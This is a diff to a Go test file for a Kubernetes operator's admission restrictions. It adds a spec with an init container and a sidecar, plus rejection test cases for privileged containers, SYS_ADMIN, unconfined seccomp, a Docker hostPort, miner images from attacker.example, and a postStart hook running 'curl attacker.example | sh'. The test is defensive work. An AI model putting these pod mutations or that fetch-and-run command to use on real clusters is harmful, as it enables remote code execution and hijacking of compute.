@@ -26,6 +26,7 @@ package restraint
 
 import (
 	"context"
+	"fmt"
 	"maps"
 	"os"
 	"strings"
@@ -201,7 +202,8 @@ func grant(t *testing.T, rule rbacv1.PolicyRule) {
 // webSpec asks for everything a DemoApplication can ask for that shapes its objects: every
 // kind of volume, the one capability, an Ingress with TLS, an autoscaler with its behavior, a
 // LoadBalancer Service with annotations and LoadBalancer per-pod Services, a disruption
-// budget, a preStop, a grace period, a priority class and a revision history.
+// budget, a preStop, a grace period, a priority class and a revision history, an init
+// container and a sidecar, and the hash of its config.
 const webSpec = `
 image: registry.example/web:1
 ports:
@@ -246,6 +248,22 @@ autoscaling:
   targetCPUUtilizationPercentage: 80
   behavior: {scaleDown: {stabilizationWindowSeconds: 600, policies: [{type: Pods, value: 1, periodSeconds: 60}]}}
 podServices: {enabled: true, type: LoadBalancer}
+envFrom: [{configMapRef: {name: web-env, optional: true}}]
+rolloutOnConfigChange: All
+initContainers:
+- name: migrate
+  image: registry.example/migrate:1
+  args: [up]
+  envFrom: [{secretRef: {name: web-db, optional: true}}]
+  volumeMounts: [{name: scratch, mountPath: /tmp}]
+  securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}
+sidecars:
+- name: proxy
+  image: registry.example/proxy:1
+  resources: {requests: {cpu: 10m}}
+  readinessProbe: {tcpSocket: {port: 5432}}
+  securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true}
+  volumeMounts: [{name: creds, mountPath: /etc/creds, readOnly: true}]
 `
 
 // web is the operator's work for one DemoApplication: the objects it built and applied.
@@ -386,6 +404,13 @@ func TestAttacks(t *testing.T) {
 	container := func(change func(*corev1.Container)) func() client.Object {
 		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.Containers[0]) })
 	}
+	// The sidecar comes first among the init containers, the init container after it.
+	sidecar := func(change func(*corev1.Container)) func() client.Object {
+		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.InitContainers[0]) })
+	}
+	initContainer := func(change func(*corev1.Container)) func() client.Object {
+		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.InitContainers[1]) })
+	}
 	securityContext := func(change func(*corev1.SecurityContext)) func() client.Object {
 		return container(func(c *corev1.Container) { change(c.SecurityContext) })
 	}
@@ -443,10 +468,27 @@ func TestAttacks(t *testing.T) {
 		}), "set procMount, sysctls, seLinuxOptions or windowsOptions"},
 		"a sidecar": {pod(func(p *corev1.PodTemplateSpec) {
 			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "miner", Image: "attacker.example/miner:1"})
-		}), "run any container but their one container app (no sidecar)"},
-		"an init container": {pod(func(p *corev1.PodTemplateSpec) {
-			p.Spec.InitContainers = []corev1.Container{{Name: "miner", Image: "attacker.example/miner:1"}}
-		}), "set initContainers: no DemoApplication asks for it"},
+		}), "run any container but their one container app (sidecars are init containers)"},
+		"a privileged init container": {initContainer(func(c *corev1.Container) {
+			c.SecurityContext.Privileged, c.SecurityContext.AllowPrivilegeEscalation = ptr.To(true), nil
+		}), "privileged containers"},
+		"a sidecar with SYS_ADMIN": {sidecar(func(c *corev1.Container) {
+			c.SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}
+		}), "add capabilities other than NET_BIND_SERVICE"},
+		"a sidecar unconfined": {sidecar(func(c *corev1.Container) {
+			c.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+		}), "run seccomp Unconfined"},
+		"a sidecar on a hostPort": {sidecar(func(c *corev1.Container) {
+			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375, HostPort: 2375}}
+		}), "without ports"},
+		"a sidecar with a lifecycle hook": {sidecar(func(c *corev1.Container) {
+			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "curl attacker.example | sh"}}}}
+		}), "without ports, lifecycle hooks"},
+		"more than 8 init containers": {pod(func(p *corev1.PodTemplateSpec) {
+			for i := range 8 {
+				p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: fmt.Sprintf("miner-%d", i), Image: "attacker.example/miner:1"})
+			}
+		}), "init containers are at most 8"},
 		"a runtime class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.RuntimeClassName = ptr.To("unsandboxed") }),
 			"set runtimeClassName: no DemoApplication asks for it"},
 		"a system priority class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.PriorityClassName = "system-node-critical" }),
